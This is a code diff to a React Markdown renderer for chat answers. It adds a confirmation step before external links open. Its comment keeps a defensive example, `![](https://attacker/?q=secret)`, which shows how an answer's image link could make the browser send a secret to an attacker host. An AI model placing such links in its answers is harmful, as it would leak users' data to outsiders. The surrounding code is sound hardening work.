@@ -3,6 +3,7 @@
 import * as React from "react";
 import ReactMarkdown, { type Components } from "react-markdown";
 import remarkGfm from "remark-gfm";
+import { ChatLink } from "./chat-link";
 import { remarkCitations } from "./remark-citations";
 
 interface MarkdownProps {
@@ -16,12 +17,13 @@ interface MarkdownProps {
  * An answer as Markdown. No rehype-raw: raw HTML in the text is never rendered as HTML, and
  * react-markdown drops unsafe URLs (javascript: and the like). Images are never loaded: an
  * answer could otherwise make the browser fetch `![](https://attacker/?q=secret)` on its own, so
- * only their alt text is shown.
+ * only their alt text is shown. Links to other sites open only after a confirmation that shows
+ * their full address (see ChatLink).
  */
 export const Markdown = React.memo(function Markdown({ text, known, onCite }: MarkdownProps) {
   const components = React.useMemo<Components>(
     () => ({
-      a: ({ node: _node, ...props }) => <a {...props} target="_blank" rel="noopener noreferrer" />,
+      a: ({ href, children }) => <ChatLink href={href}>{children}</ChatLink>,
       img: ({ alt }) => (
         <span className="text-muted-foreground italic">[{alt?.trim() || "image"}]</span>
       ),
